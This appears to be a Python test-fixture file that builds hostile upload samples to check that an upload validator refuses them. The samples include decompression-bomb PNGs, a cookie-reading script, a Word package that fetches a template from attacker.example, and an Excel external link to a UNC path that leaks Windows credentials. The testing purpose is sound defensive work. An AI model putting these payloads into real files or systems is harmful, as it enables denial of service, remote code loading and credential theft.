"""Files to upload, built in the test: real images, pixel bombs, truncated and disguised
files, Word/Excel packages with and without external links or macros."""

import io
import struct
import zipfile
import zlib

from PIL import Image, ImageFile

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


def image_bytes(fmt="PNG", size=(40, 30), mode="RGB", color="red") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, fmt)
    return buffer.getvalue()


def huge_png(width=12_000, height=12_000) -> bytes:
    """A real, complete 1-bit PNG of ``width`` × ``height``: a few KB on disk, 144 million
    pixels (over 500 MB as RGB) once decoded."""
    return image_bytes("PNG", (width, height), mode="1", color=0)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` × ``height`` RGB pixels, with valid checksums but
    almost no pixel data: only decoding it would allocate the claimed size."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[: int(len(data) * keep)]


def noisy_image(fmt="PNG", size=(200, 150)) -> bytes:
    """An image that does not compress to nothing, so cutting it loses real pixel data."""
    image = Image.effect_noise(size, 64).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, fmt)
    return buffer.getvalue()


class LoadSpy:
    """Records every decode (``ImageFile.load``) and refuses it, so a test proves that a
    file was refused from its header alone, without spending memory on its pixels."""

    def __init__(self, monkeypatch):
        self.calls = []

        def load(image, *args, **kwargs):
            self.calls.append(image.size)
            raise AssertionError(f"decoded an image of {image.size}")

        monkeypatch.setattr(ImageFile.ImageFile, "load", load)


# ---------------------------------------------------------------- Office packages

CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{target}"/>'
    "</Relationships>"
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>现场检查笔录</w:t></w:r></w:p></w:body></w:document>"
)
TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
    'TargetMode="{mode}"/></Relationships>'
)


def package(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_bytes(extra: dict[str, str | bytes] | None = None) -> bytes:
    """A minimal Word document, with ``extra`` parts."""
    parts = {
        "[Content_Types].xml": CONTENT_TYPES_DOCX,
        "_rels/.rels": ROOT_RELS.format(target="word/document.xml"),
        "word/document.xml": DOCUMENT,
    }
    return package({**parts, **(extra or {})})


def docx_with_remote_template(mode="External") -> bytes:
    """A document that fetches its template from a web address when opened (the remote
    template injection of malicious Word files)."""
    return docx_bytes({"word/_rels/document.xml.rels": TEMPLATE_RELS.format(mode=mode)})


def xlsx_bytes(hyperlink: str | None = None) -> bytes:
    """A real workbook written by openpyxl (what the office's own exports look like)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["单位名称", "罚款"])
    sheet.append(["清风足浴店", 3000])
    if hyperlink:
        sheet["A2"].hyperlink = hyperlink
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


EXTERNAL_LINK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    ' r:id="rId1"/></externalLink>'
)
EXTERNAL_LINK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/externalLinkPath" Target="{target}" TargetMode="{mode}"/></Relationships>'
)


def with_parts(data: bytes, parts: dict[str, str | bytes]) -> bytes:
    """``data`` (a zip package) with ``parts`` added."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def xlsx_with_external_link(target=r"\\fileserver\share\台账.xlsx", mode="External") -> bytes:
    """A workbook linking to another workbook (Excel fetches it, or offers to, on opening;
    a UNC path leaks the reader's Windows credentials)."""
    return with_parts(
        xlsx_bytes(),
        {
            "xl/externalLinks/externalLink1.xml": EXTERNAL_LINK,
            "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_LINK_RELS.format(
                target=target, mode=mode
            ),
        },
    )
